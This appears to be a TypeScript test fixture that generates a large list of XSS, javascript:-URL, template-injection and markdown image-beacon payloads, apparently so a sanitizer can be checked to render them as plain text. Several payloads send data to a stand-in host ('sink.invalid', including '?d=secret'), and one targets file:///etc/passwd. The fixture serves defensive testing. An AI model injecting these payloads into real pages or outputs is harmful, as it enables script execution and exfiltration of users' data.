/** Where anything that escapes would report to; nothing listens there. */
export const sinkHost = "sink.invalid";

const act = "window.__escaped=1";
const call = `fetch('//${sinkHost}/x')`;
const url = `https://${sinkHost}/p?d=secret`;

const tags = [
  "img",
  "svg",
  "body",
  "iframe",
  "input",
  "video",
  "audio",
  "details",
  "object",
  "marquee",
  "math",
  "table",
  "a",
];
const handlers = [
  "onerror",
  "onload",
  "onfocus",
  "ontoggle",
  "onmouseover",
  "onbegin",
  "onanimationstart",
  "onpointerenter",
];

const handled = tags.flatMap((tag) => handlers.map((on) => `<${tag} ${on}="${act}" src=x autofocus open>`));

const odd = [
  `<script>${act}</script>`,
  `<script src="${url}"></script>`,
  `<ScRiPt>${act}</sCrIpT>`,
  `<script\u000d\u000a>${act}</script>`,
  `</textarea><script>${act}</script>`,
  `</title><script>${act}</script>`,
  `</script><script>${act}</script>`,
  `"><script>${act}</script>`,
  `'><img src=x onerror=${act}>`,
  `\`"'><img src=x onerror=${act}>`,
  `<svg><script>${act}</script></svg>`,
  `<svg/onload=${act}>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${act}'/>#x">`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
  `<iframe srcdoc="<script>parent.__escaped=1</script>">`,
  `<iframe src="javascript:${act}">`,
  `<object data="javascript:${act}">`,
  `<embed src="javascript:${act}">`,
  `<form action="javascript:${act}"><button>x</button></form>`,
  `<isindex action="javascript:${act}" type=image>`,
  `<base href="https://${sinkHost}/">`,
  `<meta http-equiv="refresh" content="0;url=${url}">`,
  `<link rel="stylesheet" href="${url}">`,
  `<link rel="prefetch" href="${url}">`,
  `<link rel="dns-prefetch" href="//${sinkHost}">`,
  `<link rel="preload" as="image" href="${url}">`,
  `<style>@import url(${url});</style>`,
  `<div style="background:url(${url})">`,
  `<img src="${url}">`,
  `<img srcset="${url} 1x">`,
  `<picture><source srcset="${url}"><img></picture>`,
  `<video poster="${url}">`,
  `<audio src="${url}" autoplay>`,
  `<template><img src="${url}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `{{constructor.constructor('${act}')()}}`,
  `\${${act}}`,
  `<%= ${act} %>`,
  `javascript:${act}`,
  `data:text/html,<script>${act}</script>`,
  `<!--><img src=x onerror=${act}>-->`,
  `<![CDATA[<img src=x onerror=${act}>]]>`,
  `<x contenteditable onblur=${act}>lose focus</x>`,
  `\u202e<img src=x onerror=${act}>`,
  `\u200b<script>${act}</script>`,
  `\u0000<script>${act}</script>`,
  `<img src=x onerror="${call}">`,
  `<script>${call}</script>`,
  `<img src=x:alert(1) onerror=eval(src)>`,
  `<a href="jAvAsCrIpT:${act}">x</a>`,
  `<a href="java&#10;script:${act}">x</a>`,
  `<a href="&#106;avascript:${act}">x</a>`,
  `<a href="\u0001javascript:${act}">x</a>`,
];

const linkTargets = [
  `javascript:${act}`,
  `JaVaScRiPt:${act}`,
  ` javascript:${act}`,
  `java\tscript:${act}`,
  `vbscript:${act}`,
  `data:text/html,<script>${act}</script>`,
  `data:image/svg+xml,<svg onload='${act}'>`,
  `file:///etc/passwd`,
  `blob:https://${sinkHost}/x`,
  `//${sinkHost}/x`,
  `\\\\${sinkHost}\\x`,
  `&#x6A;avascript:${act}`,
  `%6Aavascript:${act}`,
  `x" onclick="${act}`,
];

/** Every way markdown links or embeds, to each target. */
const markdown = linkTargets.flatMap((target) => [
  `[click](${target})`,
  `[click](<${target}>)`,
  `![picture](${target})`,
  `![picture][r]\n\n[r]: ${target}`,
  `[click][r]\n\n[r]: ${target} "title"`,
  `<${target}>`,
]);

const beacons = [
  `![x](${url})`,
  `![x](<${url}> "t")`,
  `![x][b]\n\n[b]: ${url}`,
  `[![x](${url})](${url})`,
  `| a |\n|---|\n| ![x](${url}) |`,
  `> ![x](${url})`,
  `- ![x](${url})`,
  `# ![x](${url})`,
  `<img src="${url}" loading="eager">`,
  `[^1]\n\n[^1]: ![x](${url})`,
  `\`\`\`html\n<img src="${url}">\n\`\`\``,
  `~~![x](${url})~~`,
  `**![x](${url})**`,
  `www.${sinkHost}`,
  url,
];

const encoded = odd.flatMap((one) => [
  one.replace(/</g, "&lt;").replace(/>/g, "&gt;"),
  one.replace(/</g, "\\u003c"),
  encodeURIComponent(one),
]);

/** Texts that must stay texts wherever they are shown. */
export const payloads: readonly string[] = [...new Set([...odd, ...handled, ...markdown, ...beacons, ...encoded])];
